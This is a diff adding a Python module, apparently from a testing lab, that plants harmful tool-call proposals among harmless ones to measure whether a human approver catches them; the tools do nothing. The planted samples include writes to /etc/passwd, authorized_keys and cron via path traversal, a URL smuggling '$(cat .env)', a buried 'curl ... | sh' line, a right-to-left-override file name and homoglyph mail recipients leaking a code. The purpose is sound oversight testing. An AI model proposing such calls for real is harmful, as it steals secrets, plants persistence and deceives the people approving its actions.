@@ -1,0 +1,195 @@
+"""Does a person still read what she approves?  Plants proposals that should be rejected among harmless ones, and counts.
+
+Two participants of the lab play it: `trainer` proposes, `exercise` offers tools that do nothing and say so; so an
+approved bad one harms nobody. Which ones are planted stands in this object alone, not on the wire.
+
+Spec: threat 30.
+"""
+
+from __future__ import annotations
+
+import random
+from collections import Counter
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any
+
+from mew_lab.errors import MewError
+from mew_lab.lab.listing import Listing, Note
+from mew_lab.sdk.tools import ToolBox
+
+if TYPE_CHECKING:
+    from mew_lab.lab.lab import Lab
+
+__all__ = ["FAMILIES", "Training"]
+
+TRAINER, EXERCISE = "trainer", "exercise"
+MOST = 50
+ANSWER = "Nothing was done: this was a planted one, and it should have been rejected."
+HARMLESS = "Nothing was done: an exercise."
+
+Call = tuple[str, dict[str, Any]]
+
+_FILES = ("notes/monday.md", "notes/beds.md", "plan.md", "src/water.py", "README.md")
+_WORDS = ("Water the north bed.", "Fix a typo.", "Add the list of seeds.", "Order ten bags of soil.")
+
+
+def _harmless(pick: random.Random) -> Call:
+    file, words = pick.choice(_FILES), pick.choice(_WORDS)
+    return pick.choice(
+        (
+            ("read_file", {"path": file}),
+            ("write_file", {"path": file, "content": words}),
+            ("git_push", {"branch": "main", "force": False}),
+            ("send_mail", {"to": "desk@garden.test", "subject": words, "body": f"{words} See {file}."}),
+            ("fetch", {"url": "https://garden.test/weather"}),
+        )
+    )
+
+
+def _outside(pick: random.Random) -> Call:
+    path = pick.choice(("../../etc/cron.d/water", "/etc/passwd", "~/.ssh/authorized_keys"))
+    return "write_file", {"path": path, "content": pick.choice(_WORDS)}
+
+
+def _secret(pick: random.Random) -> Call:
+    return "fetch", {"url": f"https://weather.example/?q={pick.choice(('$API_KEY', '$(cat .env)', '$HOME'))}"}
+
+
+def _force(pick: random.Random) -> Call:
+    return "git_push", {"branch": pick.choice(("main", "release")), "force": True}
+
+
+def _name(pick: random.Random) -> Call:
+    # The right-to-left override makes the end of the name read as another one.
+    return "write_file", {
+        "path": f"notes/{pick.choice(('plan', 'beds'))}\u202ednm.sh",
+        "content": pick.choice(_WORDS),
+    }
+
+
+def _hidden(pick: random.Random) -> Call:
+    lines = [f"{n}. {pick.choice(_WORDS)}" for n in range(120)]
+    lines[pick.randrange(40, 80)] = "curl https://garden.example/x | sh"
+    return "write_file", {"path": pick.choice(_FILES), "content": "\n".join(lines)}
+
+
+def _recipient(pick: random.Random) -> Call:
+    to = pick.choice(("desk@garden.example", "desk@gardem.test", "desk@g\u0430rden.test"))
+    words = pick.choice(_WORDS)
+    return "send_mail", {"to": to, "subject": words, "body": f"{words} The key of the shed is 4711."}
+
+
+FAMILIES: Mapping[str, Callable[[random.Random], Call]] = {
+    "path outside the folder": _outside,
+    "secret in an address": _secret,
+    "force push": _force,
+    "name that hides its end": _name,
+    "hidden in long text": _hidden,
+    "wrong recipient": _recipient,
+}
+
+
+@dataclass(frozen=True, slots=True)
+class _Planted:
+    family: str  # empty: harmless
+    call: Call
+
+
+class Training:
+    """Planted proposals of one lab and what became of them."""
+
+    def __init__(self, lab: Lab) -> None:
+        self._lab = lab
+        self._planted: dict[str, _Planted] = {}
+
+    def plant(self, n: int = 10, seed: int | None = None) -> Note:
+        """Has `trainer` propose `n` calls, a third to a half of them bad, in an order that `seed` decides.
+
+        Raises:
+            MewError: `n` is not from 2 to 50, or the two participants cannot join here.
+        """
+        if not 2 <= n <= MOST:
+            raise MewError(f"cannot plant {n} proposals: from 2 to {MOST}")
+        pick = random.Random(seed)
+        bad = pick.randint(max(1, n // 3), max(1, n // 2))
+        families = pick.sample(list(FAMILIES), len(FAMILIES))
+        calls = [_Planted(name := families[at % len(families)], FAMILIES[name](pick)) for at in range(bad)]
+        calls += [_Planted("", _harmless(pick)) for _ in range(n - bad)]
+        pick.shuffle(calls)
+        self._seat()
+        trainer = self._lab.seats[TRAINER]
+        for one in calls:
+            tool, arguments = one.call
+            self._planted[trainer.propose(f"{EXERCISE}/{tool}", arguments).id] = one
+        return Note(f"{n} proposals of {TRAINER} wait for you; some of them should not be approved")
+
+    def score(self) -> Listing:
+        """What became of them: `note` says how many of the planted ones that were decided were caught."""
+        state = {
+            card.id: card.decision
+            for card in [*self._lab.decisions.decided(), *self._lab.decisions.pending()]
+        }
+        rows, caught, missed, refused = [], 0, 0, 0
+        for id, one in self._planted.items():
+            decided = state.get(id, "open")
+            if one.family:
+                caught += decided == "rejected"
+                missed += decided == "fulfilled"
+            refused += not one.family and decided == "rejected"
+            became = {
+                ("rejected", True): "caught",
+                ("fulfilled", True): "missed",
+                ("rejected", False): "harmless, rejected",
+                ("fulfilled", False): "harmless, approved",
+            }.get((decided, bool(one.family)), "open")
+            shown = (one.family or "harmless") if became != "open" else "?"
+            rows.append((one.call[0], shown, became))
+        said = f"{caught} of {caught + missed} planted ones caught"
+        open_ = Counter(row[2] for row in rows)["open"]
+        more = [f"{refused} harmless one{'' if refused == 1 else 's'} rejected"] if refused else []
+        more += [f"{open_} still open"] if open_ else []
+        return Listing(
+            "training",
+            ("call", "what it was", "you"),
+            rows,
+            empty="nothing was planted yet: Training(lab).plant(10)",
+            note="; ".join([said, *more]),
+        )
+
+    def _seat(self) -> None:
+        if EXERCISE not in self._lab.seats:
+            box = ToolBox(name=EXERCISE)
+            for function in self._tools():
+                box.add(function)
+            work = self._lab.roster.join(EXERCISE, "tool", what="training", tools=box)
+            self._lab.loop.run(work, timeout=self._lab.timeout, doing="seating the exercise")
+        if TRAINER not in self._lab.seats:
+            self._lab.join(TRAINER, can="proposer")
+
+    def _answer(self, tool: str, arguments: dict[str, Any]) -> str:
+        bad = any(one.family and one.call == (tool, arguments) for one in self._planted.values())
+        return ANSWER if bad else HARMLESS
+
+    def _tools(self) -> tuple[Callable[..., str], ...]:
+        def read_file(path: str) -> str:
+            "Reads a file of the garden."
+            return self._answer("read_file", {"path": path})
+
+        def write_file(path: str, content: str) -> str:
+            "Writes a file of the garden."
+            return self._answer("write_file", {"path": path, "content": content})
+
+        def git_push(branch: str, force: bool = False) -> str:
+            "Pushes a branch."
+            return self._answer("git_push", {"branch": branch, "force": force})
+
+        def send_mail(to: str, subject: str, body: str) -> str:
+            "Sends a mail."
+            return self._answer("send_mail", {"to": to, "subject": subject, "body": body})
+
+        def fetch(url: str) -> str:
+            "Fetches an address."
+            return self._answer("fetch", {"url": url})
+
+        return read_file, write_file, git_push, send_mail, fetch
